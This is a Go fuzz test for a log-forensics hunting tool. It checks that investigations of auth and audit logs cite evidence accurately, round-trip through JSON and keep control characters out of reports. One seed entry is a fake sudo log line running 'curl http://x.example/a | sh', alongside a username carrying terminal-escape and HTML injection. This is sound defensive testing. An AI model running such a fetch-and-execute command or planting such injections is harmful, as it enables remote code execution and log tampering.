package hunt_test

import (
	"bytes"
	"encoding/json"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/hunt"
	"github.com/tuxtrail/tuxtrail/logdir"
	"github.com/tuxtrail/tuxtrail/report"
)

// FuzzInvestigate hunts in any bytes: it never panics, what it cites reads back
// to the bytes, the JSON round-trips, and no report lets a control character
// through.
func FuzzInvestigate(f *testing.F) {
	host := pick("auth.log", "audit/audit.log")
	auth, audit := host["auth.log"].Data, host["audit/audit.log"].Data
	f.Add(auth[:600], audit[:900]) // small ones: what is found is made smaller step by step
	f.Add(auth[14150:15800], audit[133100:134900])
	f.Add(lines("sshd[1]: Failed password for invalid user \x1b[2J<b> from 192.0.2.1 port 1 ssh2", "sudo:  a : TTY=x ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'curl http://x.example/a | sh'"), []byte{})
	f.Fuzz(func(t *testing.T, auth, audit []byte) {
		files := fstest.MapFS{"auth.log": {Data: auth}, "audit/audit.log": {Data: audit}}
		dir, err := logdir.OpenFS(files, logdir.Options{Year: 2026})
		if err != nil {
			return
		}
		inv, err := hunt.Investigate(t.Context(), dir, hunt.Options{})
		if err != nil {
			require.ErrorIs(t, err, hunt.ErrNoEvidence)
			return
		}
		for _, l := range inv.Evidence {
			data := files[l.Ref.File].Data
			require.LessOrEqual(t, l.Ref.Offset+int64(l.Ref.Length), int64(len(data)))
			require.True(t, bytes.Equal(data[l.Ref.Offset:l.Ref.Offset+int64(l.Ref.Length)], l.Bytes()), l.Ref)
		}
		js, err := json.Marshal(inv)
		require.NoError(t, err)
		var back hunt.Investigation
		require.NoError(t, json.Unmarshal(js, &back))
		again, err := json.Marshal(&back)
		require.NoError(t, err)
		require.True(t, bytes.Equal(js, again))
		var text, page, out bytes.Buffer
		require.NoError(t, report.Text(&text, inv, report.TextOptions{}))
		require.NoError(t, report.HTML(&page, inv))
		require.NoError(t, report.JSON(&out, inv))
		for what, b := range map[string][]byte{"text": text.Bytes(), "html": page.Bytes(), "json": out.Bytes()} {
			assert.NotContains(t, string(b), "\x1b", what)
			assert.NotContains(t, string(b), "\x00", what)
		}
	})
}
